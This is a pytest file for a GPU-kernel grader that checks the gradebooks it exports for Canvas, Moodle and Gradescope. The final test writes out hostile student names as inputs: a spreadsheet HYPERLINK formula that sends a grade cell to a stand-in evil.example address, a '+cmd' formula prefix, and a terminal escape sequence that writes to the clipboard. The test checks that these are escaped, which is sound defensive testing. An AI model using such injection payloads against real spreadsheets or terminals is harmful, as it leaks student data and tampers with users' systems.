"""The gradebooks a batch writes, without a GPU: one row per student and per group member, each file
replaced whole, and the layouts Canvas, Moodle and Gradescope import as they are (the fake harness
of fake_kit.py grades the class)."""
import csv
import io
import json
import os

import pytest

from grader import batch

from fake_kit import args, kernel, make_class, read_gradebook


def test_the_gradebook_has_one_row_per_student_and_one_per_member_of_a_group(tmp_path):
    state = {"entries": {"g1": {"name": "A & B", "members": [{"id": "a1", "name": "A"}, {"id": "b2", "name": "B"}],
                                "files": {"trmm": "kernel.cu"}},
                         "solo": {"name": "Solo", "members": [{"id": "solo", "name": "Solo"}], "files": {}}},
             "done": {"g1/trmm": {"score": 75.0, "verdict": "correct", "max_score": 100}}, "errors": {}}
    rows = list(csv.reader(io.StringIO(batch.gradebook_csv(state, ["trmm", "syr2k"]))))
    assert rows[0] == ["student", "name", "trmm", "syr2k", "total", "notes"]
    assert rows[1][:5] == ["a1", "A", "75", "", "75"] and rows[2][:5] == ["b2", "B", "75", "", "75"]
    assert rows[3][:5] == ["solo", "Solo", "", "", "0"]


def test_the_gradebook_is_replaced_whole_or_not_at_all(tmp_path, monkeypatch):
    path = tmp_path / "gradebook.csv"
    batch.atomic_write(path, "old\n")

    def broken(src, dst):
        raise OSError("disk full")
    monkeypatch.setattr(os, "replace", broken)
    with pytest.raises(OSError):
        batch.atomic_write(path, "new, but never complete\n")
    assert path.read_text() == "old\n"


# ---------------------------------------------------------------------------------------------
# Gradebooks an LMS imports as they are.

CANVAS_COLUMNS = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
"""Canvas's gradebook import: the identifying columns its export writes and its import reads, before
one column per assignment (Canvas Instructor Guide, "How do I import grades in the Gradebook?")."""


def test_a_class_from_a_canvas_download_gets_a_canvas_gradebook_keyed_by_canvas_user_id(fake_kit, tmp_path):
    subs, out = tmp_path / "lms", tmp_path / "out"
    subs.mkdir()
    (subs / "smithjane_12345_67890_trmm.cu").write_text(kernel("reference"))
    (subs / "doejohn_23456_67891_trmm.cu").write_text(kernel("no_bounds_check"))
    assert batch.main(args(subs, out)) == 0
    rows = list(csv.reader((out / "gradebook-canvas.csv").open()))
    assert rows[0] == CANVAS_COLUMNS + ["trmm"]
    assert rows[1][0].strip() == "Points Possible" and rows[1][5] == "100"
    by_id = {r[1]: r for r in rows[2:]}
    plain = {r["student"]: r for r in read_gradebook(out)}
    assert by_id["12345"][5] == plain["12345"]["trmm"] == "100"
    assert by_id["23456"][5] == plain["23456"]["trmm"] != ""


def test_the_moodle_gradebook_has_a_column_to_map_students_by_and_one_per_assignment(fake_kit, tmp_path):
    subs, out = make_class(tmp_path), tmp_path / "out"
    assert batch.main(args(subs, out)) == 0
    rows = list(csv.reader((out / "gradebook-moodle.csv").open()))
    assert rows[0] == ["Identifier", "Email address", "Full name", "trmm"]
    plain = {r["student"]: r["trmm"] for r in read_gradebook(out)}
    assert {r[0]: r[3] for r in rows[1:]} == plain


def test_gradescope_results_have_a_leaderboard_entry_for_a_correct_submission_only(fake_kit, tmp_path):
    subs, out = make_class(tmp_path), tmp_path / "out"
    assert batch.main(args(subs, out)) == 0
    alice = json.loads((out / "gradescope" / "alice" / "results.json").read_text())
    assert alice["leaderboard"] and alice["leaderboard"][0]["name"] == "trmm GFLOPS"
    assert alice["leaderboard"][0]["order"] == "desc" and alice["leaderboard"][0]["value"] > 0
    bob = json.loads((out / "gradescope" / "bob" / "results.json").read_text())
    assert bob["leaderboard"] == []


def test_a_name_written_as_a_spreadsheet_formula_or_with_escape_sequences_is_text_in_every_gradebook_and_report(
        fake_kit, tmp_path, capsys):
    # An LMS lets a student set the name the class download carries (Moodle's profile, Gradescope's
    # account). A gradebook cell that starts with =, +, - or @ is a formula to the spreadsheet a TA opens
    # it in: this one would send the row's next cell to another site on a click.
    formula = '=HYPERLINK("mailto:x@evil.example?subject="&C2,"grades")'
    subs, out = tmp_path / "lms", tmp_path / "out"
    for name, uid, flaw in ((formula, "4242", "reference"), ("+1+cmd", "4343", "no_bounds_check"),
                            ("Jo Bloggs", "4444", "reference"), ("Eve\x1b]52;c;cm0K\x07", "4545", "reference")):
        (subs / f"{name}_{uid}_assignsubmission_file_").mkdir(parents=True)
        (subs / f"{name}_{uid}_assignsubmission_file_" / "trmm_kernel.cu").write_text(kernel(flaw))
    assert batch.main(args(subs, out)) == 0
    for book in ("gradebook.csv", "gradebook-canvas.csv", "gradebook-moodle.csv"):
        rows = list(csv.reader((out / book).open()))
        cells = [c for r in rows[1:] for c in r]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], (book, rows)
        assert "'" + formula in cells and "'+1+cmd" in cells and "Jo Bloggs" in cells, (book, rows)
        assert "Eve\\x1b]52;c;cm0K\\x07" in cells and not [c for c in cells if "\x1b" in c], (book, rows)
    shown = capsys.readouterr()
    for text in (shown.out, shown.err, *(f.read_text() for f in (out / "reports").glob("*.*")),
                 (out / "summary.md").read_text()):
        assert "\x1b" not in text and "\x07" not in text
    moodle = list(csv.reader((out / "gradebook-moodle.csv").open()))
    assert sorted(r[0] for r in moodle[1:]) == ["4242", "4343", "4444", "4545"]
    assert {r[0]: r[3] for r in moodle[1:]}["4242"] == "100"
